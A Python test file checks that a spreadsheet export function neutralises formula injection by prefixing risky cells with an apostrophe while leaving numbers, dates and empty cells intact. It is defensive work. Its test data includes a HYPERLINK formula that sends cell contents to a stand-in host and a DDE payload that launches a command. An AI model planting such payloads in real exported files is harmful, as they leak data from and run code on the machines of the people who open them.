"""Cells exported to CSV or XLSX never run as formulas, and numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest

from chassis.security import export_cell

BRAND = '=HYPERLINK("http://contoh.test/curi?d="&A1,"Klik untuk verifikasi")'


@pytest.mark.parametrize(
    "text",
    [BRAND, "+62 812", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"],
    ids=["hyperlink", "plus", "minus", "at", "tab", "carriage-return", "dde"],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert export_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [0, -5, 2**63 - 1, -12.5, Decimal("-1500000.50"), True, None, dt.date(2027, 3, 31)], ids=repr
)
def test_numbers_dates_and_empty_cells_stay_what_they_are(value):
    assert export_cell(value) is value


def test_plain_text_is_untouched():
    assert export_cell("Dinas Komunikasi = Diskominfo") == "Dinas Komunikasi = Diskominfo"
    assert export_cell("71.74") == "71.74"


def test_a_brand_named_like_a_formula_comes_out_of_an_xlsx_as_inert_text_beside_real_numbers():
    book = openpyxl.Workbook()
    book.active.append([export_cell(v) for v in (BRAND, -250000, Decimal("12.5"), 7)])
    buffer = io.BytesIO()
    book.save(buffer)
    row = next(openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows(max_row=1))
    assert [cell.data_type for cell in row] == ["s", "n", "n", "n"]  # "f" would be a formula
    assert row[0].value == "'" + BRAND and [c.value for c in row[1:]] == [-250000, 12.5, 7]


def test_a_brand_named_like_a_formula_comes_out_of_a_csv_starting_with_an_apostrophe():
    out = io.StringIO()
    csv.writer(out).writerow([export_cell(v) for v in (BRAND, -3, "Kecamatan Kota")])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells == ["'" + BRAND, "-3", "Kecamatan Kota"]
